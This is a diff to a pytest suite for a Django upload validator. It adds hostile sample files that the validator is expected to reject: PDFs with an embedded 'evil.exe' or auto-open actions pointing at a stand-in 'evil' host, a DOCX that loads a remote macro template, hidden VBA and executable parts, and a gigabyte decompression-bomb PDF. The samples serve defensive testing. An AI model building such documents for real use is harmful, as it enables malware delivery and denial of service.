@@ -7,13 +7,20 @@ import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image
 
 from kim import uploads
 from kim.models import File
 from kim.uploads import checked, plain_name
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
-JPG = b"\xff\xd8\xff\xe0" + b"\0" * 20 + b"\xff\xd9"
+
+def picture(kind):
+    out = io.BytesIO()
+    Image.new("RGB", (4, 4), "red").save(out, kind)
+    return out.getvalue()
+
+
+PNG, JPG = picture("PNG"), picture("JPEG")
 
 
 def pdf(**root):
@@ -32,6 +39,45 @@ def locked():
         made.add_blank_page()
         made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
     return out.getvalue()
+
+
+def carrying(name):
+    out = io.BytesIO()
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        made.attachments[name] = pikepdf.AttachedFileSpec(made, b"x", filename=name)
+        made.save(out)
+    return out.getvalue()
+
+
+def bomb():
+    """A small PDF that unpacks to more than a gigabyte."""
+    import zlib
+
+    objects = zlib.compress(b"1 0 " + b" " * 1_100_000_000, 9)
+    out = io.BytesIO()
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        made.Root.Extra = made.make_stream(b"")
+        made.save(out)
+    head = b"%PDF-1.5\n"
+    first = b"1 0 obj\n<</Type/Catalog/Pages 3 0 R>>\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
+    stream = b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(objects)
+    table = head + first + stream + objects + b"\nendstream\nendobj\n"
+    return table + b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF"
+
+
+def with_part(name, content, *names):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        made.writestr(name, content)
+        for one in names:
+            made.writestr(one, b"0")
+    return out.getvalue()
+
+
+TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+LINK = b'<Relationship TargetMode="External" Type="http://x/hyperlink" Target="http://land.nrw"/>'
 
 
 def packed(*names, mimetype="", size=10):
@@ -55,6 +101,11 @@ GOOD = {
     "text.odt": packed("content.xml", mimetype="application/vnd.oasis.opendocument.text"),
     "notiz.txt": "Grüße aus Würselen".encode(),
     "alt.csv": "Träger;Höhe".encode("cp1252"),
+    "excel.txt": "Träger\tHöhe".encode("utf-16"),
+    "nachsatz.jpg": JPG + b"SEFT",
+    "drucker.xlsx": packed("xl/workbook.xml", "xl/printerSettings/printerSettings1.bin"),
+    "verweis.docx": with_part("word/_rels/document.xml.rels", LINK, "word/document.xml"),
+    "rechnung.pdf": carrying("factur-x.xml"),
 }
 BAD = [
     ("seite.html", b"<script>alert(1)</script>", "Art von Datei"),
@@ -84,6 +135,19 @@ BAD = [
     ("viele.docx", packed("word/document.xml", *(f"a{n}.xml" for n in range(5001)), size=1), "entpackt sich"),
     ("binaer.txt", b"a\0b", "nicht der einer TXT-Datei"),
     ("steuer.csv", b"a\x1b[31m", "nicht der einer CSV-Datei"),
+    ("traegt.pdf", carrying("evil.exe"), "trägt eine Datei"),
+    ("anderswo.pdf", pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//evil/share")), "Skripte"),
+    ("adresse.pdf", pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil")), "Skripte"),
+    ("bombe.pdf", bomb(), ""),
+    ("vorne.docx", b"MZ" + packed("word/document.xml"), "nicht der einer DOCX-Datei"),
+    ("programm.docx", packed("word/document.xml", "word/embeddings/evil.exe"), "Makros"),
+    (
+        "versteckt.docx",
+        with_part("[Content_Types].xml", b"application/vnd.ms-office.vbaProject", "word/document.xml", "word/x.xml"),
+        "Makros",
+    ),
+    ("vorlage.docx", with_part("word/_rels/settings.xml.rels", TEMPLATE, "word/document.xml"), "von anderswo"),
+    ("nur-kopf.png", b"\x89PNG\r\n\x1a\nxxxxxxxxxx", "nicht der einer PNG-Datei"),
     ("gross.txt", b"x" * (uploads.LIMIT + 1), "größer als 20 MB"),
 ]
 
@@ -164,3 +228,21 @@ def test_what_is_far_too_large_is_not_even_read(login, region):
 def test_the_content_and_the_name_stay_out_of_the_history(region):
     columns = {f.name for f in File.events.rel.related_model._meta.fields}
     assert "sha256" in columns and not columns & {"content", "name"}
+
+
+@pytest.mark.counter
+def test_without_its_own_process_the_bomb_takes_the_memory():
+    """The same look in this process unpacks it whole: that is what the bounded process keeps away from the server."""
+    import subprocess
+    import sys
+
+    code = "import sys, resource; from kim.uploads import verdict; verdict(sys.stdin.buffer.read()); print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"  # fmt: skip
+    run = subprocess.run([sys.executable, "-c", code], input=bomb(), capture_output=True, text=False, check=True)
+    assert int(run.stdout) > 1_000_000
+
+
+def test_a_corrected_file_of_the_same_name_and_size_is_another_form(login, region):
+    browser, key = login(), "0b6d2c8e-6d1c-4a39-9f0e-0d2d3c1f7a12"
+    for words in (b"eins", b"zwei"):
+        assert upload(browser, "a.txt", words, vorgang=key).status_code == 302
+    assert File.objects.count() == 2
